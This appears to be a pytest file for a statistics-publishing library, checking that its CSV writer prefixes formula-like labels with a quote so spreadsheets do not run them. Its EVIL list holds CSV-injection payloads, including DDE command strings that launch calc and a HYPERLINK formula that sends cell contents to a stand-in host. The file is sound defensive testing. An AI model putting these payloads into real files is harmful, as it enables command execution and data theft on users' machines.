"""Labels that spreadsheets would run: written so that they do not."""

import csv
from pathlib import Path

import polars as pl
import pytest

import discreet as dc
from discreet.publication.writers.csv import harmless
from tests.helpers.rows import for_all_rows

EVIL = [
    "=1+1",
    '=HYPERLINK("http://x.example?"&A1,"more")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "\n=1+1",
    "＝1+1",
    "-A1",
]
FINE = ["-10..-1", "-", "–", "-5", "+5", "-1.234,5", "a=b", "65+", "<0", "N1", "x@example.org", ""]


def table(label: str) -> dc.ProtectedTable:
    tree = dc.Classification.from_parents(
        "sex", {"m": "", "w": ""}, labels={"m": {"en": label}, "w": {"en": "W"}}
    )
    cells = pl.DataFrame({"sex": ["m", "w"], "n": [5, 7], "key": [1, 2]})
    made = dc.Table.from_cells(cells, by=[tree], count="n", cell_key="key", key_grid=256)
    return dc.perturb(made, dc.PerturbationTable.from_rows({0: {0: 1}, 1: {0: 1}}))


@pytest.mark.parametrize("label", EVIL)
def test_no_cell_of_a_csv_begins_like_a_formula(label: str, tmp_path: Path) -> None:
    assert harmless(pl.Series([label]))[0] == "'" + label


@for_all_rows("label", FINE)
def test_what_is_no_formula_stays_as_it_is(label: str) -> None:
    assert harmless(pl.Series([label, None])).to_list() == [label, None]


@pytest.mark.filterwarnings("ignore:the perturbation table changes no count")
@pytest.mark.parametrize("label", ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0"])
def test_labels_of_published_tables_do_nothing(label: str, tmp_path: Path) -> None:
    safe = table(label)
    read = {}
    for formulas in (False, True):
        path = safe.write(tmp_path / "t.csv", formulas=formulas)
        with path.open(newline="", encoding="utf-8") as file:
            read[formulas] = list(csv.DictReader(file))
    assert "'" + label in [row["sex_label"] for row in read[False]]
    assert label in [row["sex_label"] for row in read[True]]
    for name in ("value", "status", "symbol"):
        assert [row[name] for row in read[False]] == [row[name] for row in read[True]]
